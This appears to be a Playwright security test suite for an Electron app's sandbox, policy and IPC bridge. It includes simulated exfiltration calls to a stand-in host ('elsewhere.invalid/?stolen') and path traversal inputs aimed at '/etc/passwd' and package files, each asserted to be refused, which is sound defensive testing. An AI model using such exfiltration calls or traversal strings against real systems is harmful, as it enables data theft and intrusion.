// What a hostile script could do if it ever ran in the window: nothing.
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import type { Bridge, Link, Result } from '../../preload/contract.ts';
import { expect, test } from './app.ts';
import type { LaunchedApp } from './launch.ts';

const preload = join(import.meta.dirname, '../../out/preload/index.cjs');

declare global {
  interface Window {
    readonly cliptray: Bridge;
    violations: string[];
    ran?: true;
  }
}

// Here the policy is broken on purpose.
test.use({ mayComplainOf: /Content Security Policy|Failed to load|ERR_/i });

const refused = { ok: false, problem: { kind: 'unexpected-answer', details: expect.any(String) } };

/** Loads the page again, hearing of everything that its policy refuses. */
async function reloadListening(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.violatedDirective));
  });
  await page.reload();
}

test('the page keeps to its own policy, and has neither Node nor Electron', async ({ launch }) => {
  const { page } = await launch();
  await reloadListening(page);
  await expect(page.locator('#app')).not.toBeEmpty();
  expect(await page.evaluate(() => window.violations)).toEqual([]);
  expect(
    await page.evaluate(() => [typeof Reflect.get(window, 'require'), typeof Reflect.get(window, 'process')]),
  ).toEqual(['undefined', 'undefined']);
  expect(await page.evaluate(() => Object.isFrozen(window.cliptray))).toBe(true);
});

test('a script from elsewhere does not run, and nothing can be sent away', async ({ launch }) => {
  const { page } = await launch();
  await reloadListening(page);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.invalid/';
    const picture = new Image();
    picture.src = 'https://elsewhere.invalid/?stolen';
    document.body.append(script, frame, picture);
  });
  const sent = await page.evaluate(() =>
    fetch('https://elsewhere.invalid/?stolen').then(String, (error) => error.name),
  );
  expect(sent).toBe('TypeError');
  await expect
    .poll(async () => (await page.evaluate(() => window.violations)).sort())
    .toEqual(['connect-src', 'frame-src', 'img-src', 'script-src-elem']);
  expect(await page.evaluate(() => window.ran)).toBeUndefined();
});

test('the page stays where it is, opens no window and gets no permission', async ({ launch }) => {
  const { main, page } = await launch();
  const address = page.url();
  expect(address).toBe('app://bundle/index.html');
  expect(await page.evaluate(() => window.open('https://elsewhere.invalid/'))).toBeNull();
  await page.evaluate(() => location.assign('https://elsewhere.invalid/'));
  expect(await page.evaluate(() => Notification.requestPermission())).toBe('denied');
  expect(page.url()).toBe(address);
  expect(await main.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
});

test('a call with the wrong input is refused', async ({ launch }) => {
  const { page } = await launch();
  const call = (name: string, input: unknown) =>
    page.evaluate(([verb, value]) => Reflect.get(window.cliptray, verb)(value) as Promise<Result<unknown>>, [
      name,
      input,
    ] as const);
  expect(await call('prepareClip', { key: '../../etc/passwd' })).toEqual(refused);
  expect(await call('changeSettings', { folder: { path: '/etc', id: 'x' } })).toEqual(refused);
});

test('only our own links open in the browser', async ({ launch }) => {
  const { main, page } = await launch();
  await main.evaluate(({ shell }) => {
    shell.openExternal = async (address) => {
      Reflect.set(shell, 'opened', [...(Reflect.get(shell, 'opened') ?? []), address]);
    };
  });
  const open = (link: string) =>
    page.evaluate((name) => Reflect.get(window.cliptray, 'openLink')({ link: name } as { link: Link }), link);
  expect(await open('https://elsewhere.invalid/')).toEqual(refused);
  expect(await open('constructor')).toEqual(refused);
  expect(await open('subscription')).toEqual({ ok: true, value: null });
  const opened = await main.evaluate(({ shell }) => Reflect.get(shell, 'opened'));
  expect(opened).toEqual([expect.stringMatching(/^https:\/\/support\.blinkforhome\.com\//)]);
});

test('a call from a page that is not ours is refused', async ({ launch }) => {
  const { main } = await launch();
  const answer = await main.evaluate(async ({ BrowserWindow }, script) => {
    const window = new BrowserWindow({ show: false, webPreferences: { preload: script } });
    await window.loadURL('data:text/html,hostile');
    return window.webContents.executeJavaScript('cliptray.getState()');
  }, preload);
  expect(answer).toEqual(refused);
});

test('a call from our own page in a window that the app did not make is refused', async ({ launch }) => {
  const { main } = await launch();
  const answer = await main.evaluate(async ({ BrowserWindow }, script) => {
    const window = new BrowserWindow({ show: false, webPreferences: { preload: script } });
    await window.loadURL('app://bundle/index.html');
    return window.webContents.executeJavaScript('cliptray.getState()');
  }, preload);
  expect(answer).toEqual(refused);
});

test("no address of ours leads out of the window's own files", async ({ launch }) => {
  const { page } = await launch();
  const statusOf = (address: string) =>
    page.evaluate(
      (url) =>
        fetch(url).then(
          ({ status }) => status,
          (error) => error.name,
        ),
      address,
    );
  expect(await statusOf('app://bundle/index.html')).toBe(200);
  expect(await statusOf('app://bundle/../../package.json')).toBe(404);
  expect(await statusOf('app://bundle/..%2f..%2fpackage.json')).toBe(404);
  expect(await statusOf('app://bundle/%2e%2e/main/index.cjs')).toBe(404);
  expect(await statusOf('app://elsewhere/index.html')).toBe('TypeError');
  expect(await statusOf('file:///etc/passwd')).toBe('TypeError');
});

test('the window comes back where it was closed', async ({ launch }) => {
  const place = { x: 60, y: 40, width: 900, height: 600 };
  const placeOf = ({ main }: LaunchedApp) =>
    main.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.getBounds());
  const first = await launch();
  await first.main.evaluate(({ BrowserWindow }, bounds) => {
    BrowserWindow.getAllWindows()[0]?.setBounds(bounds);
  }, place);
  await expect.poll(() => placeOf(first)).toEqual(place); // X11 moves windows when it likes
  await first.quit();
  expect(await placeOf(await launch())).toEqual(place);
});
